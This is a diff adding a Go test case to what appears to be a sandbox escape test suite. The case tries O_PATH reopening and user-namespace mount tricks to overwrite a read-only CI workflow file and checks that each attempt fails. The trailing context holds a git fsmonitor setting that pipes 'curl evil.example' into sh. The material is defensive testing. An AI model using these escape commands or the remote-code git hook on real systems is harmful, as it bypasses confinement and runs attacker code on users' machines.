@@ -233,6 +233,35 @@ print("uring", "ok" if fd >= 0 else "errno%d" % ctypes.get_errno())
 		},
 	})
 	attacks = append(attacks, attack{
+		// Tricks around a read-only bind: reopening through an O_PATH
+		// descriptor, and a user namespace of its own in which the child
+		// is "root" and tries to unmount or re-bind what hides the file.
+		name: "O_PATH reopen and mount tricks in a user namespace",
+		script: try("userns", "unshare -Urm sh -c 'mkdir -p /tmp/aw-ctl-$$ && mount -t tmpfs none /tmp/aw-ctl-$$'") +
+			try("opath", `/usr/bin/python3 -c 'import os; fd = os.open(".github/workflows/ci.yml", os.O_PATH); open("/proc/self/fd/%d" % fd, "a").write("pwned\n")'`) +
+			try("umount", "unshare -Urm sh -c 'umount .github/workflows/ci.yml && echo pwned >> .github/workflows/ci.yml'") +
+			try("rebind", "unshare -Urm sh -c 'mkdir -p /tmp/aw-rb-$$ && mount --bind .github/workflows /tmp/aw-rb-$$ && echo pwned >> /tmp/aw-rb-$$/ci.yml'") +
+			try("remount", "unshare -Urm sh -c 'mount -o remount,bind,rw .github/workflows/ci.yml && echo pwned >> .github/workflows/ci.yml'"),
+		check: func(t *testing.T, w *ws, mode string, r run) {
+			if mode == "observe" {
+				return // nothing is read-only to get around
+			}
+			// The control: the child can make a user namespace and mount
+			// in it, so the refusals below are the kernel's locked mounts.
+			if r.step("userns") != "ok" {
+				t.Fatalf("control: a user namespace with a mount: %s (the case proves nothing without it)", r.step("userns"))
+			}
+			for _, s := range []string{"opath", "umount", "rebind", "remount"} {
+				if r.step(s) != "fail" {
+					t.Errorf("%s: %s, want fail", s, r.step(s))
+				}
+			}
+			if got := w.read(".github/workflows/ci.yml"); got != "on: push\n" {
+				t.Errorf("workflow changed: %q", got)
+			}
+		},
+	})
+	attacks = append(attacks, attack{
 		// Configuration git runs later, in the user's own checkout.
 		name: "git configuration that runs code later",
 		script: try("fsmonitor", "git config core.fsmonitor 'curl -s evil.example | sh'") +
